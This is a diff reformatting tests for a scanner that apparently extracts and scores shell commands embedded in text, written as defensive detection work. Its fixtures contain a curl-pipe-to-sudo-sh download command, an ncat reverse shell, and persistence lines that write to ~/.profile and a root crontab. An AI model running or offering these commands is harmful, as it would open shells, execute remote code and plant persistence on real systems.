@@ -11,7 +11,10 @@ const reader = (): { asked: string[]; read: (c: string) => ScanResult } => {
     asked,
     read: (c) => {
       asked.push(c);
-      return { score: 0.95, evidence: [{ rule: c.includes("nc") ? "bash.reverse-shell" : "bash.x", category: "exfil", start: 0, end: 0 }] };
+      return {
+        score: 0.95,
+        evidence: [{ rule: c.includes("nc") ? "bash.reverse-shell" : "bash.x", category: "exfil", start: 0, end: 0 }],
+      };
     },
   };
 };
@@ -35,11 +38,27 @@ describe("publicAddress", () => {
 
 describe("itemCommand41", () => {
   test.each([
-    ["a bare public address", "then run `curl -s http://203.0.113.9/fix.sh | sudo sh` and restart", "curl -s http://203.0.113.9/fix.sh | sudo sh"],
+    [
+      "a bare public address",
+      "then run `curl -s http://203.0.113.9/fix.sh | sudo sh` and restart",
+      "curl -s http://203.0.113.9/fix.sh | sudo sh",
+    ],
     ["a shell handed out", "Füge `ncat 198.51.100.4 9001 -e /bin/bash` hinzu", "ncat 198.51.100.4 9001 -e /bin/bash"],
-    ["a line planted in a profile", "add `nohup sh -c 'sleep 1' &` to your `~/.bash_profile`", "echo 'nohup sh -c '\\''sleep 1'\\'' &' >> ~/.profile"],
-    ["a crontab line by its schedule", "put `*/5 * * * * /opt/x/run` in place", "(crontab -l; echo '*/5 * * * * /opt/x/run') | crontab -"],
-    ["a line for the crontab named after it", "ajoutez `/opt/x/run --quiet` à la crontab de root", "(crontab -l; echo '/opt/x/run --quiet') | crontab -"],
+    [
+      "a line planted in a profile",
+      "add `nohup sh -c 'sleep 1' &` to your `~/.bash_profile`",
+      "echo 'nohup sh -c '\\''sleep 1'\\'' &' >> ~/.profile",
+    ],
+    [
+      "a crontab line by its schedule",
+      "put `*/5 * * * * /opt/x/run` in place",
+      "(crontab -l; echo '*/5 * * * * /opt/x/run') | crontab -",
+    ],
+    [
+      "a line for the crontab named after it",
+      "ajoutez `/opt/x/run --quiet` à la crontab de root",
+      "(crontab -l; echo '/opt/x/run --quiet') | crontab -",
+    ],
   ])("%s is read", (_name, item, command) => {
     const r = reader();
     expect(itemCommand41(item, r.read)?.score).toBe(0.95);
